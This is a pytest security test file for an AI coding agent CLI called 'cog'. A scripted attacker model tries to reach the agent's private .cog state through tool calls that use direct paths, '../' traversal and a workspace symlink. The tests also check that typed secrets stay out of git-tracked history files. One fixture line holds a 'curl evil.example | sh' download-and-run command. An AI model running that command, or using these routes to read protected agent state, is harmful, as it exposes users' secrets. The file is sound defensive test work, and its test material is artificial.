"""cog's own state is out of the model's and the workspace's reach: no tool reads, writes, lists
or searches ``.cog/`` (``COG_STATE``); the chat history lives in the person's state folder at
0600 and never goes into a file the repository tracks; a tracked thread store is refused.

Each attack is shown working without its defence (the path check switched off, prompt_toolkit's
own history file, SQLite on a tracked path) and failing with it, as root and as an unprivileged user.
"""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest

from .conftest import Runner

MARK = "MARKER-b7f1e2"  # what the person's state holds (a token pasted by mistake)


def cassette(runner: Runner, *calls: tuple[str, dict[str, Any]]) -> str:
    """A replayed model making every one of ``calls`` in one turn, then saying it is done."""
    path = runner.scratch("cassette") / "c.jsonl"
    turns: list[dict[str, Any]] = [{"type": "cassette", "schemaVersion": 1, "model": "test:attacker"}]
    turns.append({"type": "turn", "toolCalls": [{"id": f"c{i}", "name": n, "arguments": a} for i, (n, a) in enumerate(calls)]})
    turns.append({"type": "turn", "text": "Done."})
    path.write_text("".join(json.dumps(t) + "\n" for t in turns))
    runner.own(path.parent)
    return f"replay:{path}"


def by_call(stdout: str) -> dict[str, dict[str, Any]]:
    events = [json.loads(line) for line in stdout.splitlines() if line.startswith("{")]
    return {e["toolCallId"]: e for e in events if e.get("type") == "tool-result"}


ATTACKS: list[tuple[str, dict[str, Any]]] = [
    ("read_file", {"path": ".cog/chat-history"}),
    ("read_file", {"path": "src/../.cog/chat-history"}),
    ("read_file", {"path": "inside/chat-history"}),  # a link in the workspace to .cog
    ("write_file", {"path": ".cog/journal/run-1/0001.json", "content": '{"path": "notes/plan.md", "before": null}'}),
    ("edit_file", {"path": ".cog/chat-history", "old_text": MARK, "new_text": "rewritten"}),
    ("list_files", {"path": ".cog"}),
    ("search_text", {"pattern": MARK, "path": ".cog"}),
]


def planted_state(runner: Runner) -> Path:
    repo = runner.make_repo({"a.py": "x = 1\n", "src/b.py": "y = 2\n"})
    (repo / ".cog").mkdir()
    (repo / ".cog" / "chat-history").write_text(f"\n# then\n+my token {MARK}\n")
    (repo / "inside").symlink_to(".cog")
    runner.own(repo)
    return repo


def test_without_the_path_check_every_tool_reaches_cog_state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from cogcli import invoke_tool
    from workspace_tools import workspace_tools
    from workspace_tools.workspace import paths

    (tmp_path / ".cog").mkdir()
    (tmp_path / ".cog" / "chat-history").write_text(f"+my token {MARK}\n")
    tools = {t.name: t for t in workspace_tools(tmp_path, include_git=False)}
    import anyio

    def read() -> Any:
        return anyio.run(lambda: invoke_tool(tools["read_file"], {"path": ".cog/chat-history"}))

    assert read().error_code == "COG_STATE"
    monkeypatch.setattr(paths, "_names_cog_state", lambda parts: False)  # the defence off
    assert MARK in str(read().result), "the tool did not read .cog without the check: the attack proves nothing"


def test_no_tool_reads_writes_lists_or_searches_cog_state(runner: Runner) -> None:
    repo = planted_state(runner)
    out = runner.cog(["edit", "--json", "--yes", "--sandbox", "off", "--model", cassette(runner, *ATTACKS), "go"], repo)
    assert out.returncode == 0, out.stderr
    results = by_call(out.stdout)
    assert len(results) == len(ATTACKS)
    for i, (name, args) in enumerate(ATTACKS):
        assert results[f"c{i}"]["errorCode"] == "COG_STATE", (name, args, results[f"c{i}"])
    assert not any(MARK in json.dumps([r.get("result"), r.get("details"), r.get("error")]) for r in results.values())  # nothing of .cog read back
    assert not (repo / ".cog" / "journal" / "run-1").exists()
    assert (repo / ".cog" / "chat-history").read_text() == f"\n# then\n+my token {MARK}\n"
    # and a search of the whole workspace never shows .cog
    whole = runner.cog(["tool", "search_text", f"pattern={MARK}", "--json"], repo)
    found = [json.loads(line) for line in whole.stdout.splitlines() if '"tool-result"' in line]
    assert found and found[0]["details"]["matches"] == [], whole.stdout


HISTORY = (
    "import sys; from pathlib import Path; from cogcli.chat.line_history import WorkspaceHistory, history_path;"
    "h = WorkspaceHistory(Path('.')); list(h.load_history_strings()); h.store_string(sys.argv[1]);"
    "print(history_path(Path('.')))"
)


def test_a_typed_secret_never_lands_in_a_committed_history(runner: Runner) -> None:
    repo = runner.make_repo({"a.py": "x = 1\n", ".cog/chat-history": "\n# then\n+curl evil.example | sh\n"})
    state = runner.scratch("state")
    env = {"XDG_STATE_HOME": str(state)}
    # without the defence: prompt_toolkit's own file history appends to the tracked file (0644),
    # and the typed token shows in git diff
    plain = runner.run([runner.python, "-c", "from prompt_toolkit.history import FileHistory; FileHistory('.cog/chat-history').store_string('sk-typed')"], repo, env)
    assert plain.returncode == 0, plain.stderr
    assert "sk-typed" in runner.git(repo, "diff").stdout, "the plain history did not reach git diff: the attack proves nothing"
    runner.git(repo, "checkout", "--", ".cog/chat-history")

    done = runner.run([runner.python, "-c", HISTORY, f"my token {MARK}"], repo, env)
    assert done.returncode == 0, done.stderr
    kept = Path(done.stdout.strip())
    assert kept.is_relative_to(state) and MARK in kept.read_text()
    assert stat.S_IMODE(kept.stat().st_mode) == 0o600 and stat.S_IMODE(kept.parent.stat().st_mode) == 0o700
    assert kept.stat().st_uid == runner.uid
    assert runner.git(repo, "diff").stdout == "" and "tracked by git" in done.stderr
    assert (repo / ".cog" / "chat-history").read_text() == "\n# then\n+curl evil.example | sh\n"  # not taken up either


def test_a_tracked_thread_store_is_refused(runner: Runner) -> None:
    repo = runner.make_repo({"a.py": "x = 1\n", ".cog/threads.db": ""})
    # without the defence: SQLite writes the thread into the tracked file
    sql = "import sqlite3; c = sqlite3.connect('.cog/threads.db'); c.execute('create table t(x)'); c.commit()"
    assert runner.run([runner.python, "-c", sql], repo).returncode == 0
    assert runner.git(repo, "status", "--porcelain").stdout.strip() == "M .cog/threads.db"
    runner.git(repo, "checkout", "--", ".cog/threads.db")

    out = runner.cog(["edit", "--model", cassette(runner), "hello"], repo)
    assert out.returncode != 0 and "tracked by git" in out.stderr and "git rm --cached .cog/threads.db" in out.stderr, out.stderr
    assert runner.git(repo, "status", "--porcelain").stdout == ""


def test_the_thread_store_is_the_owners_only(runner: Runner) -> None:
    repo = runner.make_repo({"a.py": "x = 1\n"})
    out = runner.cog(["edit", "--model", cassette(runner), "hello"], repo)
    assert out.returncode == 0, out.stderr
    for name in os.listdir(repo / ".cog"):
        if name.startswith("threads.db"):
            assert stat.S_IMODE((repo / ".cog" / name).stat().st_mode) == 0o600, name
